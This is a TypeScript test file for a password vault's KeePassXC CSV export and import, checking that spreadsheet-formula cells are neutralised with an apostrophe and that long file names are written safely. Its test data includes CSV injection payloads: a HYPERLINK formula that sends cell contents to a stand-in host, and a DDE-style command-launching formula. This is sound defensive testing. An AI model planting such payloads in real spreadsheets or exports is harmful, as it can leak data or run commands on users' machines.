// Two classes of export defect, tested by mechanism rather than by one reported case:
// A. a KeePassXC CSV cell a spreadsheet would run as a formula (CSV injection) is written with a
//    leading apostrophe, in every column, and unguardCsvCell undoes exactly that;
// B. an export to a long but legal file name (up to 255 bytes, multi-byte UTF-8 too) is written,
//    since the hidden file it goes through first has a short name of its own.
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { FileNotWritten, notWrittenReason, writeNewFile } from '../../electron/export/new-file';
import { utf8Decode } from '../../shared/bytes';
import { CrewvaultError } from '../../shared/errors';
import { guardCsvCell, keepassxcCsvExporter, unguardCsvCell } from '../../shared/export/keepassxc-csv';
import { keepassxcCsvImporter } from '../../shared/import/keepassxc-csv';
import { nodeImportCrypto } from '../../electron/import/crypto';
import type { ExportEntry } from '../../shared/export/types';
import { readCsv } from '../../shared/import/csv';

const TRIGGERS = ['=', '+', '-', '@', '\t', '\r'];

/** Values a teammate could type: each trigger first, behind apostrophes, and harmless look-alikes. */
const HOSTILE = [
  '=HYPERLINK("http://x/?"&A1)',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  '=',
  "'=x",
  "''+y",
  "'''-z",
  "'\t",
  "'",
  "'abc",
  "a'=b",
  'plain',
  '',
  ' =1',
  '"=quoted"',
  '=a,"b"\n=c',
];

function entry(value: string): ExportEntry {
  return { customer: 'Acme', title: value, username: value, password: value, url: value, notes: value, otp: null, createdAt: 0, updatedAt: 0 };
}

/** The data rows' cells, read back with Crewvault's own CSV reader. */
async function cellsOf(entries: readonly ExportEntry[]): Promise<string[][]> {
  const text = utf8Decode(await keepassxcCsvExporter.write(entries, { randomUuid: () => '00000000-0000-4000-8000-000000000000' }));
  return readCsv(text).slice(1).map((row) => [...row.fields]);
}

describe('A. CSV injection: a cell is never a formula, and reads back exactly', () => {
  it('guards every column whose text could start a formula, and leaves the rest as they were', async () => {
    const rows = await cellsOf(HOSTILE.map(entry));
    expect(rows).toHaveLength(HOSTILE.length);
    for (const [i, cells] of rows.entries()) {
      const value = HOSTILE[i] ?? '';
      for (const cell of cells) expect(TRIGGERS).not.toContain(cell[0]);
      // Title, Username, Password, URL, Notes: the value, guarded or not, and back again.
      for (const cell of cells.slice(1, 6)) {
        expect(cell === value || cell === `'${value}`).toBe(true);
        expect(unguardCsvCell(cell)).toBe(value);
      }
    }
  });

  it('guards exactly the values that need it', () => {
    for (const trigger of TRIGGERS) {
      expect(guardCsvCell(`${trigger}1`)).toBe(`'${trigger}1`);
      expect(guardCsvCell(`'${trigger}1`)).toBe(`''${trigger}1`);
    }
    for (const safe of ["'", "'abc", 'a=b', ' =1', 'Root/Acme', '2023-11-14T22:13:20Z', 'otpauth://totp/x']) {
      expect(guardCsvCell(safe)).toBe(safe);
      expect(unguardCsvCell(safe)).toBe(safe);
    }
  });

  it('unguardCsvCell(guardCsvCell(v)) is v for every string of up to four characters from the ones that matter', () => {
    const alphabet = ["'", '=', '+', '-', '@', '\t', '\r', 'a', ' '];
    let values = [''];
    for (let length = 0; length < 4; length++) {
      const longer = values.flatMap((v) => alphabet.map((c) => v + c));
      for (const v of longer) {
        const guarded = guardCsvCell(v);
        expect(TRIGGERS).not.toContain(guarded[0]);
        expect(unguardCsvCell(guarded)).toBe(v);
      }
      values = longer;
    }
  });
});

const folders: string[] = [];
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

function folder(): string {
  const made = mkdtempSync(path.join(tmpdir(), 'crewvault-export-classes-'));
  folders.push(made);
  return made;
}

const BYTES = new TextEncoder().encode('every secret, once\n');

describe('B. a long but legal file name is written whole, new or nothing', () => {
  const names: Array<[string, string]> = [
    ['250 ASCII bytes', `${'a'.repeat(246)}.csv`],
    ['255 ASCII bytes (the limit)', `${'b'.repeat(251)}.csv`],
    ['250 bytes of 2-byte UTF-8', 'é'.repeat(125)],
    ['250 bytes of 4-byte UTF-8 and ASCII', `${'😀'.repeat(61)}.kdbx\u00e9`],
    ['a name starting with a dot, 250 bytes', `.${'c'.repeat(249)}`],
  ];

  it.each(names)('%s', async (_what, name) => {
    expect(Buffer.byteLength(name)).toBeGreaterThanOrEqual(250);
    expect(Buffer.byteLength(name)).toBeLessThanOrEqual(255);
    const dir = folder();
    const file = path.join(dir, name);
    await writeNewFile(file, BYTES);
    expect(readFileSync(file, 'utf8')).toBe('every secret, once\n');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(readdirSync(dir)).toEqual([name]);
    // Still never an overwrite, at that length too.
    const again = writeNewFile(file, new TextEncoder().encode('other'));
    await expect(again).rejects.toMatchObject({ code: 'ALREADY_EXISTS' });
    expect(readFileSync(file, 'utf8')).toBe('every secret, once\n');
    expect(readdirSync(dir)).toEqual([name]);
  });

  it('a name past the limit is refused with its reason, nothing left behind', async () => {
    const dir = folder();
    const refused = writeNewFile(path.join(dir, 'd'.repeat(256)), BYTES);
    await expect(refused).rejects.toBeInstanceOf(FileNotWritten);
    await expect(refused).rejects.toMatchObject({ code: 'INVALID_INPUT', reason: 'ENAMETOOLONG' });
    expect(readdirSync(dir)).toEqual([]);
  });

  it('nothing appears when the step before it fails (the audit row), and that error stands', async () => {
    const dir = folder();
    const file = path.join(dir, 'export.csv');
    const locked = new CrewvaultError('LOCKED', 'The vault is locked: sign in again.');
    await expect(writeNewFile(file, BYTES, () => Promise.reject(locked))).rejects.toBe(locked);
    expect(readdirSync(dir)).toEqual([]);
    let seen = false;
    await writeNewFile(file, BYTES, () => {
      seen = !existsSync(file);
      return Promise.resolve();
    });
    expect(seen).toBe(true);
    expect(readFileSync(file, 'utf8')).toBe('every secret, once\n');
  });

  it('names why a file was not written with a code only, never a message', async () => {
    const dir = folder();
    writeFileSync(path.join(dir, 'a-file'), 'x');
    const cases: Array<[string, string]> = [
      [path.join(dir, 'missing', 'x.csv'), 'ENOENT'],
      [path.join(dir, 'a-file', 'x.csv'), 'ENOTDIR'],
      [path.join(dir, 'a-file'), 'EEXIST'],
    ];
    for (const [file, reason] of cases) {
      const error: unknown = await writeNewFile(file, BYTES).then(() => undefined, (e: unknown) => e);
      expect(notWrittenReason(error)).toBe(reason);
      expect((error as Error).message).not.toContain('secret');
    }
    expect(notWrittenReason(new CrewvaultError('INVALID_INPUT', 'The password is too short: hunter2'))).toBe('INVALID_INPUT');
    expect(notWrittenReason(new Error('hunter2'))).toBe('INTERNAL');
    expect(notWrittenReason(Object.assign(new Error('x'), { code: 'hunter2 is my password' }))).toBe('INTERNAL');
  });
});

describe('A. the guard undone on the way back in', () => {
  it('a Crewvault KeePassXC CSV imports every guarded value as it was (the importer drops exactly the guard)', async () => {
    // Values a field keeps as typed (the importer trims names, and a title cannot be empty).
    const kept = HOSTILE.filter((v) => v !== '' && v.trim() === v && !/[\t\r]/.test(v));
    expect(kept.length).toBeGreaterThan(10);
    const bytes = await keepassxcCsvExporter.write(kept.map(entry), { randomUuid: () => '00000000-0000-4000-8000-000000000000' });
    const read = await keepassxcCsvImporter.read(bytes, { crypto: nodeImportCrypto });
    expect(read.problems).toEqual([]);
    expect(read.entries.map((e) => [e.title, e.username, e.password, e.url, e.notes])).toEqual(kept.map((v) => [v, v, v, v, v]));
  });
});
